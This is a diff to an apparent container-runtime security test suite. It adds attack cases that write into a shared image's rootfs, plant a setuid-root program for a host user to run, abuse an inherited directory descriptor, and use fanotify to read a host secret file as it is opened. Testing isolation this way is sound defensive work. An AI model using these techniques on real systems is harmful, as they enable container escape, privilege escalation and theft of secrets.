@@ -1,9 +1,12 @@
 // SPDX-License-Identifier: MIT
 // Attacks on files of the host: most are after /root/secret.
+#include <sys/fanotify.h>
 #include <sys/mount.h>
+#include <sys/prctl.h>
 #include <sys/stat.h>
 
 #include <array>
+#include <csignal>
 
 #include "tests/attacks/rig/attack.hpp"
 
@@ -203,6 +206,137 @@ const Entry kRuntimeBinary({
           try_to(fchmod(program, kMode), "fchmod", "it to 711");
         },
     .effect = effect_of_runtime_binary,
+});
+
+// Writes to the directory that the container was started from. The next
+// container of the same image finds it there.
+
+constexpr const char* kPlanted = "/bin/planted";
+
+const Entry kImageWrite({
+    .name = "image-write",
+    .title = "change a program directory of the image for good",
+    .open = "the rootfs is the directory itself and no copy of it, so what one "
+            "container writes, the next one runs. Real runtimes put a layer of "
+            "the container's own on top: overlayfs, mount(2)",
+    .attempt =
+        [](const Words&) {
+          constexpr int kFlags = O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC;
+          try_to(open(kPlanted, kFlags, 0755), "open", kPlanted);
+        },
+    .effect =
+        [](Host&) {
+          return if_so(
+              support::exists(kPlanted) ||
+                  support::exists(std::string("/rootfs") + kPlanted),
+              "bin of the image has a file more");
+        },
+});
+
+// Leaves a setuid program where a user of the host can run it: inode(7).
+
+constexpr const char* kSetuid = "/tmp/planted";
+constexpr uid_t kHostUser = 1000;
+
+void planted_setuid(const Words&) {
+  const std::string program = support::read_file("/bin/attack");
+  support::write_file(kSetuid, program, 0755);
+  try_to(chmod(kSetuid, 04755), "chmod", "it to 4755");
+}
+
+// Runs it as such a user: it says whose rights it has got.
+std::string effect_of_planted_setuid(Host&) {
+  std::string path = std::string("/rootfs") + kSetuid;
+  if (!support::exists(path)) path = kSetuid;
+  if (!support::exists(path)) return "";
+  support::Process program(
+      {.argv = {path, "--whoami"}, .before_exec = [] {
+         if (setresgid(kHostUser, kHostUser, kHostUser) == -1) _exit(1);
+         if (setresuid(kHostUser, kHostUser, kHostUser) == -1) _exit(1);
+       }});
+  return if_so(
+      program.wait().out == "0\n",
+      "user 1000 of the host is root by a program of the container");
+}
+
+const Entry kPlantedSetuid({
+    .name = "planted-setuid",
+    .title = "plant a setuid program that a host user runs",
+    .open = "root of the container is root of the host, and so are the files "
+            "that it owns. A setuid program gives its owner's rights to all "
+            "who can reach it: execve(2), inode(7)",
+    .attempt = planted_setuid,
+    .effect = effect_of_planted_setuid,
+});
+
+// Uses a directory that the container has as standard input: openat in open(2).
+const Entry kStdinDirectory({
+    .name = "stdin-directory",
+    .title = "use a directory that is standard input",
+    .open = "the runtime passes on descriptors 0, 1 and 2, and any descriptor "
+            "of a directory is a place to start at: openat in open(2)",
+    .look_afterwards = true,
+    .refusal = "stdin, stdout or stderr: Is a directory",
+    .prepare =
+        [](Host& host) {
+          host.launch.before_exec = [] {
+            dup2(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), STDIN_FILENO);
+          };
+          return Words{};
+        },
+    .attempt =
+        [](const Words&) { inherited_fd({std::to_string(STDIN_FILENO)}); },
+});
+
+// Watches the file system that the rootfs is on: fanotify(7). An event has a
+// descriptor of the file that somebody opened, wherever it is.
+
+// A host process that opens the secret again and again.
+void open_for_ever() {
+  prctl(PR_SET_PDEATHSIG, SIGKILL);
+  for (;;) {
+    close(open("/root/secret", O_RDONLY | O_CLOEXEC));
+    usleep(10'000);
+  }
+}
+
+Words prepare_fanotify(Host& host) {
+  const int group = fanotify_init(FAN_CLASS_NOTIF | FAN_CLOEXEC, O_RDONLY);
+  if (group == -1 && errno == ENOSYS) throw Missing{"a kernel with fanotify"};
+  check(group, "fanotify_init");
+  close(group);
+  host.victim = check(fork(), "fork");
+  if (host.victim == 0) open_for_ever();
+  return {};
+}
+
+void watch_files(const Words&) {
+  const int group = try_to(
+      fanotify_init(FAN_CLASS_NOTIF | FAN_CLOEXEC, O_RDONLY),
+      "fanotify_init");
+  constexpr unsigned kFlags = FAN_MARK_ADD | FAN_MARK_FILESYSTEM;
+  try_to(
+      fanotify_mark(group, kFlags, FAN_OPEN, AT_FDCWD, "/"),
+      "fanotify_mark",
+      "the file system of /");
+  constexpr int kEvents = 20;
+  for (int i = 0; i < kEvents; ++i) {
+    fanotify_event_metadata event{};
+    try_to(read(group, &event, sizeof event), "read", "an event");
+    std::array<char, kSecretLength + 1> text{};
+    if (pread(event.fd, text.data(), kSecretLength, 0) > 0) tell(text.data());
+    close(event.fd);
+  }
+}
+
+const Entry kFanotify({
+    .name = "fanotify",
+    .title = "watch which files the host opens, and read them",
+    .open = "a mark on a file system is about all of it, also what is outside "
+            "of the rootfs, and each event opens the file for the watcher: "
+            "fanotify(7) wants CAP_SYS_ADMIN",
+    .prepare = prepare_fanotify,
+    .attempt = watch_files,
 });
 
 }  // namespace attacks::files
